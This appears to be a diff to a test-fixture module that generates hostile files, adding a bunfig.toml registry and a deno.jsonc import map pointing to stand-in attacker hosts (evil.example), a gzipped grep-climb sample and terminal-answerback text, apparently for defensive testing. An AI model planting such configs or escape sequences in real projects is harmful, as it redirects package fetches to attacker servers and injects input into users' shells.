@@ -10,6 +10,7 @@ terminal acts on. Controls: what a lab publishes (real tqdm, pdflatex's log line
 
 from __future__ import annotations
 
+import gzip
 import re
 from pathlib import Path
 
@@ -76,6 +77,11 @@ TOOL_CONFIG = {
     "CVS/Root": b":ext:anon@cvs.evil.example:/cvsroot\n",
     "CVS/Repository": b"analysis\n",
     "CVS/Entries": b"/fit.C/1.1/Thu Dec  5 12:00:00 2026//\nD\n",
+    # bun reads ./bunfig.toml on every run: its registry is where `bun install` fetches from
+    # (uv.toml's index-url, refused); deno reads ./deno.jsonc (deno.json is refused as JSON
+    # by name-type) on every `deno run`: its import map sends a URL prefix to another host
+    "bunfig.toml": b'[install]\nregistry = "https://npm.evil.example/"\n',
+    "deno.jsonc": b'{"imports": {"https://deno.land/std/": "https://evil.example/std/"}}\n',
 }
 
 
@@ -133,6 +139,7 @@ def utf16_c0(chars: str) -> bytes:
 def text_hostile() -> dict[str, bytes]:
     return {
         "grep-climb.err": grep_climb(),
+        "grep-climb.err.gz": gzip.compress(grep_climb(), mtime=0),  # zgrep
         # Armenian (U+0541 ...) in UTF-16LE: every letter's high byte 0x05, ENQ: xterm answers
         # its answerbackString, PuTTY types "PuTTY" into the shell (the DECID C2 9A sibling)
         "utf16-enq.txt": utf16_c0("\u0541\u0545\u0553\u0541\u0545"),
